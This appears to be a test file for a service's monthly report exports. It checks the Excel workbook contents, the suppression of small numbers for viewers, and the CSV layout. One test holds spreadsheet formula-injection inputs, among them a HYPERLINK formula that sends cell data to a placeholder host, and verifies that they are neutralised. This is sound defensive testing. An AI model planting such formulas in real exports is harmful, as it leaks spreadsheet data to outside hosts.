/**
 * The exports of October 2026's hand-computed report: the workbook opens with exceljs and its
 * numbers are the card's; the CSV has one row per number; for report viewers small numbers are
 * suppressed in both and the coordinators are left out.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { monthlyReportCardData } from '../../src/bot/reports/reportCard';
import { monthlyReport } from '../../src/domain/reports/monthlyReport';
import { MEASURE_DEFINITIONS, reportTables } from '../../src/domain/reports/reportTables';
import { reportCsv, reportWorkbook } from '../../src/services/reports/reportExports';
import { DIRECTORY, RECORDS } from '../helpers/reportFixture';

const report = monthlyReport({
  month: '2026-10',
  records: RECORDS,
  directory: DIRECTORY,
  scope: { kind: 'service' },
  reminderWorkingDays: 2,
  asAt: new Date('2026-11-30T12:00:00Z'),
});
const META = {
  title: 'Monthly report: October 2026',
  audience: 'the LAC team',
  madeAt: '2026-11-30T12:00:00Z',
};

async function open(suppress: boolean) {
  const workbook = new ExcelJS.Workbook();
  const bytes = await reportWorkbook(reportTables(report, suppress), META);
  await workbook.xlsx.load(
    bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer,
  );
  /** A sheet's rows under its header row (row 4), as plain values. */
  const rows = (sheet: string) =>
    (workbook.getWorksheet(sheet)?.getSheetValues() ?? [])
      .slice(5)
      .filter(Boolean)
      .map((row) => (row as ExcelJS.CellValue[]).slice(1));
  return { workbook, rows };
}

it("opens with exceljs, a sheet per table and the definitions, and its headline numbers are the card's", async () => {
  const { workbook, rows } = await open(false);
  expect(workbook.worksheets.map((w) => w.name)).toEqual([
    'Headline',
    'By source',
    'By patch',
    'By age band',
    'By theme',
    'Flow',
    'First conversation',
    'Walking alongside',
    'Coordinators',
    'Outcomes',
    'Trend',
    'Ethnic group',
    'Disability',
    'Carer',
    'Wellbeing',
    'Costs avoided',
    'Definitions',
  ]);
  const card = monthlyReportCardData(report, { suppressSmallNumbers: false, reminderWorkingDays: 2 });
  const headline = rows('Headline');
  for (const line of card.headline) {
    const row = headline.find((r) => r[0] === line.label);
    // The card writes pounds as "£7,300"; the sheet keeps the number.
    const asCell = (shown: string) => shown.replace(/^£/, '').replace(/,/g, '');
    expect([line.label, String(row?.[1] ?? ''), String(row?.[2] ?? '')]).toEqual([
      line.label,
      asCell(line.month),
      asCell(line.yearToDate),
    ]);
  }
  // Numbers are numbers, so a spreadsheet can add them up.
  expect(headline[0]).toEqual(['Introduced', 5, 7]);
  expect(rows('By patch')).toEqual(
    expect.arrayContaining([
      ['Harold Hill North', 2, 3], // R1, R2; and R5 in August (R8 is of the last financial year)
      ['No patch covers this postcode', 1, 1],
    ]),
  );
  expect(rows('By theme')[0]).toEqual(['Feeling lonely or isolated', 3, '60%', 3, '43%']);
  expect(rows('Coordinators')).toEqual([
    ['Tammy Hughes', 2, 3],
    ['Amira Khan', 0, 2],
  ]);
  expect(rows('Trend').at(-1)).toEqual(['October 2026', 5, 3, 2, 1]);
  expect(rows('Costs avoided')).toEqual(
    expect.arrayContaining([
      ['An eviction', 7000, 1, 7000, 2, 14000],
      ['Total', '', 2, 7300, 3, 14300],
    ]),
  );
  expect(rows('Wellbeing')[0]).toEqual(['lifeSatisfaction', 2, 1, '50%']);
  expect(rows('Definitions')).toHaveLength(MEASURE_DEFINITIONS.length);
});

it("the card's charts and the workbook agree, row by row", async () => {
  const { rows } = await open(false);
  const card = monthlyReportCardData(report, { suppressSmallNumbers: false, reminderWorkingDays: 2 });
  const source = card.charts.find((c) => c.heading.startsWith('Who introduced'));
  for (const row of source?.rows ?? [])
    expect(rows('By source').find((r) => r[0] === row.label)?.[1]).toBe(Number(row.shown));
});

it('for report viewers, shows no count from 1 to 4 and leaves the coordinators out', async () => {
  const { workbook, rows } = await open(true);
  expect(workbook.getWorksheet('Coordinators')).toBeUndefined();
  const cells = workbook.worksheets
    .filter((w) => w.name !== 'Definitions')
    .flatMap((w) => rows(w.name).flatMap((r) => r.slice(1)));
  expect(cells).toContain('fewer than 5');
  expect(cells.filter((c) => typeof c === 'number' && c > 0 && c < 5)).toEqual([]);
  expect(rows('Headline')[0]).toEqual(['Introduced', 5, 5]); // 5 and 7, rounded to 5
  expect(cells.filter((c) => typeof c === 'number' && c % 5 !== 0)).toEqual([]);
});

it('writes a CSV whose cells never run as formulas in a spreadsheet', () => {
  const table = {
    sheet: 'Patches',
    title: 'Introductions by patch',
    columns: ['Patch', 'October 2026'],
    rows: [
      ['=HYPERLINK("https://example.invalid/?"&A1,"Open")', 3],
      ['+Harold Hill', 2],
      ['@SUM(A1:A9)', 1],
    ],
  } as unknown as ReturnType<typeof reportTables>[number];
  const rows = parse(reportCsv([table]), { columns: true }) as Record<string, string>[];
  expect(rows.map((r) => r.row)).toEqual([
    `'=HYPERLINK("https://example.invalid/?"&A1,"Open")`,
    "'+Harold Hill",
    "'@SUM(A1:A9)",
  ]);
});

it('writes a CSV with one row per number', () => {
  const rows = parse(reportCsv(reportTables(report, false)), { columns: true }) as Record<string, string>[];
  expect(rows).toContainEqual({ table: 'Headline', row: 'Introduced', column: 'October 2026', value: '5' });
  expect(rows).toContainEqual({
    table: 'Flow',
    row: 'Median hours to accept',
    column: 'October 2026',
    value: '6',
  });
  expect(rows.some((r) => r.table === 'Definitions')).toBe(false);
});
